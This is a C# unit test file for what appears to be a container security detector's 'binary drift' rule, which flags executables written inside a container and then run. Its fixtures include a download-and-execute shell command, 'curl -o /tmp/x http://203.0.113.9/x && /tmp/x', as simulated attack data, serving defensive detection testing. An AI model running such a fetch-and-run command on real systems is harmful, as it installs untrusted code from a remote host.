using Vigil.Contracts.Events.V1;
using Vigil.Grains.Entities;

namespace Vigil.Grains.Tests.Entities;

public sealed class BinaryDriftTests
{
    private static readonly Process Shell = PodEvents.Proc(300, 90, "/bin/sh", "-c", "curl -o /tmp/x http://203.0.113.9/x && /tmp/x");
    private static readonly Process Curl = PodEvents.Proc(301, 300, "/usr/bin/curl", "-o", "/tmp/x", "http://203.0.113.9/x");
    private static readonly Process Dropped = PodEvents.Proc(302, 300, "/tmp/x");

    [Fact]
    public async Task A_file_written_in_the_container_and_then_executed_raises_the_drift_alert()
    {
        await using var silo = await DetectionSilo.StartAsync();
        var pod = new PodEvents(silo.Clock, pod: "worker-5c8d7-abcde", container: "worker", image: "registry.example/shop/worker:1.4");

        await silo.Pod(pod).ObserveAsync(
        [
            pod.Exec(Shell),
            pod.Exec(Curl, Shell),
            pod.File(Curl, FileOperation.Create, "/tmp/x"),
            pod.File(Curl, FileOperation.Write, "/tmp/x"),
            pod.Exit(Curl),
            pod.Exec(Dropped, Shell),
        ]);

        var alert = Assert.Single(await silo.Pod(pod).GetAlertsAsync(null), a => a.RuleId == BinaryDrift.RuleId);
        Assert.Equal("A drift binary detected executing in the container", alert.Title);
        Assert.Equal(Severity.High, alert.Severity);
        Assert.Equal(("worker-5c8d7-abcde", "worker"), (alert.Pod, alert.Container));
        var evidence = Assert.Single(alert.Evidence);
        Assert.Equal("/tmp/x", evidence.Process.Binary);
        Assert.Equal(["/bin/sh"], evidence.Ancestors.Select(a => a.Binary));
        Assert.Contains("/tmp/x was written inside container worker", evidence.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Executing_binaries_of_the_image_is_not_drift()
    {
        await using var silo = await DetectionSilo.StartAsync();
        var pod = new PodEvents(silo.Clock, pod: "worker-5c8d7-abcde", container: "worker", image: "registry.example/shop/worker:1.4");

        await silo.Pod(pod).ObserveAsync(
        [
            pod.Exec(Shell),
            pod.Exec(Curl, Shell),
            // Reading a binary, or writing some other file, does not make the binary drift.
            pod.File(Curl, FileOperation.Open, "/usr/bin/curl"),
            pod.File(Curl, FileOperation.Create, "/tmp/page.html"),
            pod.Exec(PodEvents.Proc(303, 300, "/usr/bin/curl", "--version"), Shell),
        ]);

        Assert.DoesNotContain(await silo.Pod(pod).GetAlertsAsync(null), a => a.RuleId == BinaryDrift.RuleId);
    }

    [Fact]
    public async Task A_write_the_kernel_refused_does_not_make_drift_but_an_open_for_writing_does()
    {
        await using var silo = await DetectionSilo.StartAsync();
        var pod = new PodEvents(silo.Clock, pod: "worker-5c8d7-abcde", container: "worker", image: "registry.example/shop/worker:1.4");

        await silo.Pod(pod).ObserveAsync(
        [
            pod.File(Curl, FileOperation.Create, "/tmp/x", errno: 13),
            pod.Exec(Dropped, Shell),
        ]);
        Assert.Empty(await silo.Pod(pod).GetAlertsAsync(null));

        // O_WRONLY | O_CREAT | O_TRUNC: the file was replaced.
        await silo.Pod(pod).ObserveAsync(
        [
            pod.File(Curl, FileOperation.Open, "/usr/local/bin/helper", flags: 0x241),
            pod.Exec(PodEvents.Proc(304, 300, "/usr/local/bin/helper"), Shell),
        ]);
        var alert = Assert.Single(await silo.Pod(pod).GetAlertsAsync(null));
        Assert.Equal(BinaryDrift.RuleId, alert.RuleId);
    }

    [Fact]
    public async Task A_file_written_by_another_container_of_the_pod_is_not_drift_in_this_one()
    {
        await using var silo = await DetectionSilo.StartAsync();
        var pod = new PodEvents(silo.Clock, pod: "worker-5c8d7-abcde", container: "worker", image: "registry.example/shop/worker:1.4");
        var init = pod.InContainer("init-tools", "busybox:1.36");

        await silo.Pod(pod).ObserveAsync(
        [
            init.File(Curl, FileOperation.Create, "/tmp/x"),
            pod.Exec(Dropped, Shell),
        ]);

        Assert.Empty(await silo.Pod(pod).GetAlertsAsync(null));
    }
}
